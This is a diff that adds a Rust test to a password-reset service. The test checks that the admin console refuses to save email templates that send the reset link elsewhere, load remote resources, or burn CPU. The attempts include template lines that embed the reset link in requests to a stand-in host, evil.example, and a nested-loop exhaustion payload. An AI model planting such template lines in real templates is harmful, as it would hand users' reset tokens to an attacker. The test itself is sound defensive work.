@@ -765,6 +765,87 @@ async fn a_template_that_lost_its_link_is_refused_and_a_saved_one_is_used() {
     assert_eq!(broken_syntax.status, StatusCode::UNPROCESSABLE_ENTITY);
 }
 
+/// Finding 1 of the fourth review: an operator (or whoever took the
+/// account) saves a template that copies the link to another site, loads a
+/// remote image, or burns CPU. Each is refused at save with the reason, and
+/// the mail that follows still carries the link only to the reset page.
+#[tokio::test]
+async fn a_template_that_sends_the_link_elsewhere_or_burns_cpu_is_refused() {
+    let app = start(50).await;
+    let ann = app.operator("op-ann");
+    let edit = ann.get("/admin/templates/edit?locale=en&kind=reset").await;
+    let before = app.service.templates();
+    let reset = before.locale("en").unwrap().reset.clone();
+    let attempts = [
+        (
+            reset.text.clone(),
+            format!(
+                "{}<img src=\"https://evil.example/p?{{{{ link }}}}\">",
+                reset.html
+            ),
+            "reset.html",
+            "evil.example",
+        ),
+        (
+            format!("{}\nhttps://evil.example/c?{{{{ link }}}}\n", reset.text),
+            reset.html.clone(),
+            "reset.text",
+            "outside a line holding only the link",
+        ),
+        (
+            reset.text.clone(),
+            format!(
+                "{}<img src=\"https://cdn.example/logo.png\" alt=\"logo\">",
+                reset.html
+            ),
+            "reset.html",
+            "remote resource",
+        ),
+        (
+            format!(
+                "{}{{% for i in range(2000) %}}{{% for j in range(2000) %}}{{% endfor %}}{{% endfor %}}",
+                reset.text
+            ),
+            reset.html.clone(),
+            "reset.render",
+            "too much work",
+        ),
+    ];
+    for (text, html, part, reason) in attempts {
+        let refused = ann
+            .post(
+                "/admin/templates/save",
+                &[
+                    ("locale", "en"),
+                    ("kind", "reset"),
+                    ("subject", &reset.subject),
+                    ("text", &text),
+                    ("html", &html),
+                    ("csrf_token", &edit.csrf()),
+                ],
+            )
+            .await;
+        assert_eq!(
+            refused.status,
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "{part}: {reason}"
+        );
+        assert!(refused.body.contains("Not saved"), "{}", refused.body);
+        assert!(
+            refused.body.contains(part) && refused.body.contains(reason),
+            "the console shows why ({part}, {reason}): {}",
+            refused.body
+        );
+        assert_eq!(app.service.templates(), before, "the service keeps its templates");
+    }
+    let user = Browser::at(app.base.clone());
+    user.forgot("dave").await;
+    app.deliver().await;
+    let mail = app.server.accepted.lock().unwrap().last().cloned().unwrap();
+    assert!(!mail.expose_text().contains("evil.example"));
+    assert!(!mail.expose_html().contains("evil.example"));
+}
+
 /// Every page of the console, after a flow whose secrets we hold: none of
 /// them shows a token, a link with a token, a password or a password hash.
 #[tokio::test]
